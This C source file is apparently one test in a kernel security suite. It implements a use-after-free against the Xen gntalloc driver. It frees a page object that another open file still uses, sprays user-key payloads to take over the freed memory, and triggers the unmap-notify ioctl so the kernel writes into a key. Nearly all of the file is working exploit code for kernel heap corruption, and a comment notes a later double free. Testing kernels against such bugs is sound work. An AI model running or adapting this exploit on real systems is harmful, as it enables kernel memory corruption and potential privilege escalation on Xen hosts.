// SPDX-License-Identifier: GPL-2.0-only
/*
 * L-GNTALLOC: have the kernel write to an object of its heap that was freed.
 *
 * gntalloc maps pages of a file one after the other in the file's list, and
 * when the mapping goes it lets go of those that come one after the other in
 * the list of all files. If another file's page lies between, that page's
 * object is freed, and the other file still uses it. Here a key's payload
 * takes the place, and the file writes to it.
 */
#include "lasting.h"

#include <fcntl.h>
#include <linux/keyctl.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include <xen/gntalloc.h>

/*
 * What a key's payload overlays of the object: both have 64 bytes, and the
 * kernel's part of a key the first 24. The file finds its page by the index, and
 * writes the notification.
 */
struct payload {
    uint64_t list[2];
    uint64_t index;
    uint32_t users, grant;
    uint32_t notify_at, notify_port;
};

static const uint32_t port = 0x65676f72;

#define NR_KEYS 1000
static int keys[NR_KEYS];

static int open_driver(void)
{
    return open("/dev/xen/gntalloc", O_RDWR | O_CLOEXEC);
}

/* A page that dom0 grants to itself; its index, or -1. */
static int64_t new_page(int driver)
{
    struct ioctl_gntalloc_alloc_gref page = { .flags = GNTALLOC_FLAG_WRITABLE,
                                              .count = 1 };

    return ioctl(driver, IOCTL_GNTALLOC_ALLOC_GREF, &page)
               ? -1
               : (int64_t)page.index;
}

static void free_page(int driver, int64_t index)
{
    struct ioctl_gntalloc_dealloc_gref page = { .index = (uint64_t)index,
                                                .count = 1 };

    ioctl(driver, IOCTL_GNTALLOC_DEALLOC_GREF, &page);
}

static int add_key(unsigned int number, const struct payload *payload)
{
    char name[16];

    snprintf(name, sizeof(name), "rogue%u", number);
    return (int)syscall(SYS_add_key, "user", name, payload, sizeof(*payload),
                        KEY_SPEC_PROCESS_KEYRING);
}

static bool a_key_has_changed(const struct payload *payload)
{
    struct payload now;

    for ( unsigned int i = 0; i < NR_KEYS; i++ )
        if ( syscall(SYS_keyctl, KEYCTL_READ, keys[i], &now, sizeof(now)) ==
                 sizeof(now) &&
             memcmp(&now, payload, sizeof(now)) )
            return now.notify_port == port;

    return false;
}

/*
 * Free the other file's page by a mapping of ours that goes. An object that is
 * freed after it serves as the copy that the kernel makes of each payload.
 */
static int free_the_others(int ours, int64_t index, int spare)
{
    const int64_t spare_page = new_page(spare);
    void *pages = mmap(NULL, 2 * PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED,
                       ours, (off_t)index);

    if ( pages == MAP_FAILED )
        return errno;

    munmap(pages, 2 * PAGE_SIZE);
    free_page(spare, spare_page);
    return 0;
}

static enum outcome use_after_free(void)
{
    const int ours = open_driver(), other = open_driver(),
              spare = open_driver();
    const int64_t first = new_page(ours), index = new_page(other);
    struct payload payload = { .index = (uint64_t)index, .users = 2 };
    struct ioctl_gntalloc_unmap_notify notify = {
        .index = (uint64_t)index | 0x123,
        .action = UNMAP_NOTIFY_CLEAR_BYTE,
        .event_channel_port = port,
    };
    int error;

    if ( first < 0 || index < 0 || new_page(ours) < 0 )
        return cannot_try("no pages of gntalloc's");
    if ( add_key(NR_KEYS, &payload) < 0 )
        return cannot_try("no keys: %s", strerrorname_np(errno));

    error = free_the_others(ours, first, spare);
    if ( error == ENOENT )
        return effect(false, "pages between which another file's lies are not "
                             "mapped");
    if ( error )
        return cannot_try("no mapping: %s", strerrorname_np(error));

    for ( unsigned int i = 0; i < NR_KEYS; i++ )
        keys[i] = add_key(i, &payload);
    if ( ioctl(other, IOCTL_GNTALLOC_SET_UNMAP_NOTIFY, &notify) )
        return cannot_try("no notification: %s", strerrorname_np(errno));

    return a_key_has_changed(&payload)
               ? effect(true, "gntalloc has rewritten a key of the kernel's")
               : cannot_try("no key has taken the freed object's place");
}

/* When the other file is closed, the kernel frees the object once more. */
ATTACK_OWN_BOOT("L-GNTALLOC",
                "free a page of gntalloc's that another file uses")
{
    return run_lasting(use_after_free);
}
